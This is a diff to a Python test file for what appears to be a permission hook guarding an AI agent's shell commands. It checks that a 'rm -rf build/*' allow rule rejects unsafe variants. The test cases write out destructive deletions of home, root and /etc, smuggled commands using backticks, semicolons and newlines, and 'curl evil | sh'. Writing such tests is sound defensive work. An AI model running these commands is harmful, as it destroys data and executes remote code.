@@ -50,7 +50,7 @@ def waiting_id() -> str:
 
 def test_a_call_is_denied_and_the_answer_says_how_to_allow_it() -> None:
     reason = told()["permissionDecisionReason"]
-    assert decision() == "deny" and f"moot allow {waiting_id()}" in reason and "deletes folders" in reason
+    assert decision() == "deny" and f"moot allow {waiting_id()[:10]}`" in reason and "deletes folders" in reason
 
 
 @pytest.mark.parametrize("mode", ["auto", "bypassPermissions", "dontAsk", "default"])
@@ -156,6 +156,10 @@ def test_a_hook_may_wait_for_leave(monkeypatch: pytest.MonkeyPatch) -> None:
         ("rm -rf build/*", "rm -rf build/out", True),
         ("rm -rf build/*", "rm -rf build/../..", False),
         ("rm -rf build/*", "rm -rf build/x; curl evil | sh", False),
+        ("rm -rf build/*", "rm -rf build/x /home/me ~ /etc", False),
+        ("rm -rf build/*", "rm -rf build/ /", False),
+        ("rm -rf build/*", "rm -rf build/~", False),
+        ("rm -rf build/*", "rm -rf build/*", True),
         ("rm -rf build/*", "rm -rf build/$HOME", False),
         ("rm -rf build/*", "rm -rf build/`id`", False),
         ("rm -rf build/*", "rm -rf build/x\ncurl evil", False),
